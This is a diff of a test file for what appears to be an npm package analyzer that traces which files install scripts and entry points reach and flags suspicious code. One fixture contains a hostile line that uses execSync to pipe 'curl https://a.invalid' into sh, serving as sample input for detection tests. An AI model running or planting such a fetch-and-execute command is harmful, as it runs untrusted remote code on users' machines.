@@ -55,6 +55,14 @@ test('entries: main, module, browser, exports and their patterns', () => {
   ])
 })
 
+test('where no entry leads to a file, every file may be loaded', () => {
+  assert.equal(reached({ main: 'gone.js' }, { 'a.js': '', 'b/c.cjs': '', 'd.txt': '' }), [
+    'a.js import',
+    'b/c.cjs import',
+  ])
+  assert.equal(reached({ main: 'a.js' }, { 'a.js': '', 'b/c.cjs': '' }), ['a.js import'])
+})
+
 test('a chain through npm, sh, node -e and a child process', () => {
   const files = {
     'scripts/go.sh': '#!/bin/sh\ncd "$(dirname "$0")" && node -e "require(\'./inner\')"',
@@ -154,9 +162,12 @@ test('other packages and builtins are not unresolved', () => {
 })
 
 test('scripts of git packages count only where it comes from git', () => {
-  const source = packageOf({ scripts: { prepare: 'node a.js' } }, { 'a.js': '' })
-  assert.equal(analyze(source).reach.files, [])
-  assert.equal(analyze(source, { fromGit: true }).reach.files, [{ path: 'a.js', when: ['install'] }])
+  const source = packageOf({ main: 'm.json', scripts: { prepare: 'node a.js' } }, { 'a.js': '', 'm.json': '' })
+  assert.equal(
+    analyze(source).reach.files.map(({ path }) => path),
+    ['m.json'],
+  )
+  assert.equal(analyze(source, { fromGit: true }).reach.files[0], { path: 'a.js', when: ['install'] })
 })
 
 test('the hash follows what install scripts reach, and is absent where that is not all known', () => {
@@ -180,7 +191,10 @@ test('what was not kept is a gap and not resolved', () => {
 
 test('signals of unreached code have no trigger', () => {
   const facts = analyze(
-    packageOf({}, { 'hidden/x.js': "require('child_process').execSync('curl https://a.invalid | sh')" }),
+    packageOf(
+      {},
+      { 'index.js': '', 'hidden/x.js': "require('child_process').execSync('curl https://a.invalid | sh')" },
+    ),
   )
   assert.ok(facts.signals.length > 0)
   assert.ok(facts.signals.every(({ when }) => when.length === 0))
